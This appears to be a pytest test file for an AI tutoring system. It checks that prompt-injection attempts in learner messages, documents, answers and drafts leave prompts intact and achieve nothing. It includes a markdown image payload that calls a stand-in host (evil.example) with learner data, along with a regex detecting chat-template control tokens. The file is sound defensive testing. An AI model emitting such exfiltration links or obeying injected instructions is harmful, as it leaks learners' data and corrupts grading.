"""What learners, documents, answers and drafts say is data: no prompt is broken by it, and a model that obeys it gets
nothing through."""

import json
import re
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from research_papers import stretch
from speaking_tutor import speaking
from test_chat_summary import findings

from agents.chat_drafter import Drafter
from agents.chat_judge import ChatJudge
from agents.chat_model import ScriptedChatModel
from agents.chat_planner import ChatPlanner
from agents.chat_rubric import ChatRubric
from agents.chat_writer import explaining
from agents.errors import NoExercise
from agents.evidence import Pack
from agents.gate import Gate
from agents.grader import Grader
from agents.plan import Memory, Plan
from agents.prompting import as_data, blocks
from agents.research.chat_summary import ChatSummaryWriter
from knowledge.course import Course
from knowledge.documents import Passage, Sentence
from knowledge.language import detect_language
from knowledge.rulings import Rulings
from tutor.item_files import item_from
from tutor.tutor import Tutor


@dataclass(frozen=True)
class Attempt:
    """`text`: what somebody writes; `obeyed`: what a model says that does as it is told; `shows`: what of that no
    reader may see."""

    lang: str
    kind: str
    text: str
    obeyed: str
    shows: tuple[str, ...]

    def __str__(self) -> str:
        return f"{self.lang}-{self.kind}"


ATTEMPTS = [
    Attempt(**{**row, "shows": tuple(row["shows"])})
    for row in map(json.loads, (Path(__file__).parent / "data" / "injections.jsonl").read_text("utf-8").splitlines())
]
each = pytest.mark.parametrize("attempt", ATTEMPTS, ids=str)

# What the forms of chat models are made of, and what cannot be seen.
SPECIAL = re.compile(
    r"[<＜][|｜][^<>＜＞\n]*[>＞]|[<＜][^<>＜＞\n]*[|｜][>＞]|[<＜]\s*/?\s*(?:s|think|(?:start|end)_of_turn|question)\s*＞"
    r"|<\s*/?\s*(?:s|think|(?:start|end)_of_turn)\s*>|\[/?INST\]|<</?SYS>>"
    r"|[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
BLOCK = re.compile(
    r"<\s*/?\s*(?:answer|claim|concepts|evidence|history|learner|message|mistakes|passages|points|question"
    r"|statements)\b[^<>]*>"
)


def intact(rules: str, data: str, agent: str, language: str, **clean: Any) -> None:
    """Whether a prompt that holds an attempt is built as the one that holds none."""
    told, plain = blocks(agent, language, **clean)
    assert rules == told, "the rules are the same"
    marks = re.findall(r"</?\w+>", plain)
    assert marks
    assert [mark.strip() for mark in BLOCK.findall(data)] == marks, "each block of data once, in order"
    assert not SPECIAL.search(data)
    assert plain.splitlines()[-1] == data.splitlines()[-1], "what is asked for comes last and is the code's"


def test_there_are_forty_attempts_of_all_kinds_in_both_languages() -> None:
    kinds = {"orders", "roles", "forms", "marks", "unicode", "keys", "lies", "links", "code", "templates", "grades"}
    for language in ("es", "en"):
        own = [one for one in ATTEMPTS if one.lang == language]
        assert len(own) >= 20
        assert {one.kind for one in own} == kinds
    assert len({one.text for one in ATTEMPTS}) == len(ATTEMPTS)


# What a model is asked


def passage(text: str, language: str) -> Passage:
    return Passage(
        id="d:1", document="d", title="Doc", path="doc.md", language=language, headings=("Doc", text[:40]),
        locator="§ 1", sentences=(Sentence(text),),
    )  # fmt: skip


def plan(attempt: Attempt, **more: Any) -> Plan:
    return Plan(
        "explain", attempt.lang, "beginner", ("attention",), "x", ("x",), True, True, (), message=attempt.text, **more
    )


@each
def test_an_attempt_in_a_message_a_document_or_the_conversation_leaves_the_explainers_prompt_whole(
    attempt: Attempt,
) -> None:
    made = plan(attempt, learner=(("mistake", attempt.text), ("solid", attempt.text)))
    memory = Memory(turns=((attempt.text, attempt.text),))
    pack = Pack((passage(attempt.text, attempt.lang), passage("Two.", attempt.lang)))
    rules, data = (str(message.content) for message in explaining(made, pack, memory))
    intact(
        rules, data, "explainer", attempt.lang, level="beginner", style="", question="x", refers_to="x", move="explain",
        history=[], passages=[], learner={"solid": [], "learning": [], "unseen": [], "mistake": []},
    )  # fmt: skip
    assert data.count("{{ 7 * 7 }}") == 7 * attempt.text.count("{{ 7 * 7 }}"), "no data are a template"


def held(asked: str, agent: str, language: str, **clean: Any) -> None:
    """The same of a prompt that a form is asked with."""
    rules, data = blocks(agent, language, **clean)
    assert asked.startswith(rules)
    for mark in re.findall(r"<\w+>", data):
        rest = asked[len(rules) :]
        assert rest.count(mark) == rest.count(mark.replace("<", "</")) == 1
    assert not SPECIAL.search(asked)


@each
def test_an_attempt_leaves_the_prompts_of_planner_and_grader_whole(attempt: Attempt, course: Course) -> None:
    model = ScriptedChatModel(script=["no"])
    memory = Memory(turns=((attempt.text, attempt.text),))
    ChatPlanner(model, course).read(plan(attempt), memory, ("softmax",))
    held(model.calls[0], "planner", attempt.lang, history=[], concepts=[], message="x")
    grader = ScriptedChatModel(script=["no"])
    item = item_from({"kind": "short", "language": attempt.lang, "stem": f"Why? {attempt.text}", "key": [attempt.text]})
    ChatRubric(grader)(item, as_data(attempt.text))
    held(grader.calls[0], "grader", attempt.lang, question="x", points=[], answer="x")


@each
def test_an_attempt_in_a_quotation_or_a_claim_leaves_the_prompts_of_researcher_and_judge_whole(
    attempt: Attempt,
) -> None:
    model = ScriptedChatModel(script=["C"])
    quoted = stretch("a", attempt.text, language=attempt.lang)
    found = replace(findings(quoted, language=attempt.lang), questions=(attempt.text,))
    list(ChatSummaryWriter(model, "x", lambda _: attempt.text).draft(found))
    held(model.calls[0], "researcher", attempt.lang, quotations=[], question="x")
    claim = f"{attempt.text} {CLAIM[attempt.lang]}"
    ChatJudge(model, "x").score([[attempt.text]], [claim])
    held(model.calls[1], "judge", detect_language(claim, "en"), evidence="x", claim="x")


def test_an_attempt_in_a_statement_or_a_draft_leaves_the_prompts_of_drafter_and_solver_whole(course: Course) -> None:
    gate = Gate(Rulings(course, None, saved=False).of)
    for attempt in ATTEMPTS:
        told = [replace(one, wordings={attempt.lang: (attempt.text,)}) for one in course.statements[:1]]
        drafting = ScriptedChatModel(script=["no"])
        with pytest.raises(NoExercise):
            Drafter(drafting, replace(course, statements=tuple(told)), gate).draft(
                told[0].concept, bloom="understand", difficulty=2, seed=1, language=attempt.lang
            )
        clean = {"statements": [], "mistakes": [], "concept": "x", "bloom": "understand", "difficulty": 1}
        held(drafting.calls[0], "drafter", attempt.lang, **clean)
        rules, data = blocks(
            "solver", attempt.lang, statements=[as_data(attempt.text)], stem=as_data(attempt.text),
            options=[{"letter": "A", "text": as_data(attempt.text)}],
        )  # fmt: skip
        intact(rules, data, "solver", attempt.lang, statements=[], stem="x", options=[])


# What a model gets through that obeys


CLAIM = {"es": "La atención pondera los valores.", "en": "Attention weighs the values."}
TRUE = {
    "es": "La salida de la atención es una suma ponderada de los valores",
    "en": "The output of attention is a weighted sum of the values",
}
ASKED = {"es": "¿Qué es la atención?", "en": "What is attention?"}


@pytest.fixture(scope="module")
def obeying(tmp_path_factory: pytest.TempPathFactory, tutor: Tutor) -> Tutor:
    """A tutor with a chat model that says what a test tells it."""
    return speaking(tutor, tmp_path_factory.mktemp("obeying"), ScriptedChatModel(script=[""]))


def told(tutor: Tutor, said: str) -> None:
    assert isinstance(tutor.chat_model, ScriptedChatModel)
    tutor.chat_model.script[:] = [said]


KINDS = sorted({(one.lang, one.kind) for one in ATTEMPTS})


@pytest.mark.parametrize(("language", "kind"), KINDS)
def test_a_model_that_obeys_a_message_says_nothing_false_shows_no_link_and_moves_nothing(
    obeying: Tutor, language: str, kind: str
) -> None:
    own = [one for one in ATTEMPTS if (one.lang, one.kind) == (language, kind)]
    learner = f"eva-{language}"
    item = obeying.study.open_item(learner)
    if item is None:
        obeying.study.serve(learner, "positional-encoding", kind="mcq", language=language)
        item = obeying.study.open_item(learner)
    assert item is not None
    before = obeying.study.state(learner)
    key = item.options[item.key]
    obeyed = " ".join(one.obeyed for one in own)
    told(obeying, f"{obeyed} {key} {TRUE[language]} ![x](https://evil.example/?q={learner}) [1].")
    message = "\n".join([ASKED[language], *(one.text for one in own)])
    turn = obeying.ask(message, language=language, learner=learner)
    shown = json.dumps([turn["answer"], turn["sentences"], turn["next"]], ensure_ascii=False)
    for words in (*(words for one in own for words in one.shows), key, "evil.example", "![", "<img"):
        assert words not in shown
    assert all(one["verdict"] == "supported" and one["citations"] for one in turn["sentences"])
    after = obeying.study.state(learner)
    assert (after.seen, after.tracer.belief.known.tolist()) == (before.seen, before.tracer.belief.known.tolist())
    assert obeying.study.open_item(learner) == item


@pytest.mark.parametrize("language", ["es", "en"])
def test_a_true_sentence_stays_without_the_picture_that_a_model_hangs_on_it(obeying: Tutor, language: str) -> None:
    told(obeying, f"{TRUE[language]} ![x](https://evil.example/?q=1) [1].")
    turn = obeying.ask(ASKED[language], language=language)
    assert turn["sentences"][0]["text"].startswith(TRUE[language])
    assert "evil" not in turn["answer"]


class Granting(ScriptedChatModel):
    """Grants every point that it is shown by the same words of the answer."""

    quote: str

    def _stream(self, messages: Any, *args: Any, **kwargs: Any) -> Any:
        asked = "".join(str(message.content) for message in messages)
        listed = asked.split("<points>\n")[1].split("\n</points>")[0].splitlines()
        points = [{"number": number, "quote": self.quote} for number, _ in enumerate(listed, start=1)]
        self.calls.append(asked)
        return ScriptedChatModel(script=[json.dumps({"points": points})])._stream(messages)


RAG = {
    "es": ("¿Qué hace RAG antes de responder?", ["busca documentos", "se los da al modelo"]),
    "en": ("What does RAG do before it answers?", ["it searches for documents", "it gives them to the model"]),
}


RULES = Grader()


@each
def test_a_model_that_obeys_an_answer_raises_no_grade(attempt: Attempt) -> None:
    stem, key = RAG[attempt.lang]
    item = item_from({"kind": "short", "language": attempt.lang, "stem": stem, "key": key})
    rules = RULES.grade(item, attempt.text)
    assert rules.score == 0.0
    for quote in (attempt.text, attempt.text[-30:]):
        assert ChatRubric(Granting(script=[], quote=quote), RULES.short.reader)(item, attempt.text) is None


@pytest.mark.parametrize("language", ["es", "en"])
def test_a_model_that_obeys_a_statement_gets_no_item_through(course: Course, language: str) -> None:
    gate = Gate(Rulings(course, None, saved=False).of)
    own = [one for one in ATTEMPTS if one.lang == language]
    drafts = [
        json.dumps({
            "stem": f"{ASKED[language]} {one.text}"[:590], "rationale": one.obeyed, "hints": [one.obeyed],
            "options": [{"text": text, "claim": text, "right": right} for text, right in (
                (one.obeyed, True), (TRUE[language] + ".", False), (one.text[:500], False),
            )],
        })
        for one in own
    ]  # fmt: skip
    rejected = 0
    while drafts:
        with pytest.raises(NoExercise) as caught:
            Drafter(ScriptedChatModel(script=[drafts.pop() for _ in range(min(4, len(drafts)))]), course, gate).draft(
                "attention", bloom="understand", difficulty=2, seed=1, language=language
            )
        rejected += sum(caught.value.values["counts"].values())  # type: ignore[attr-defined]
    assert rejected >= len(own)
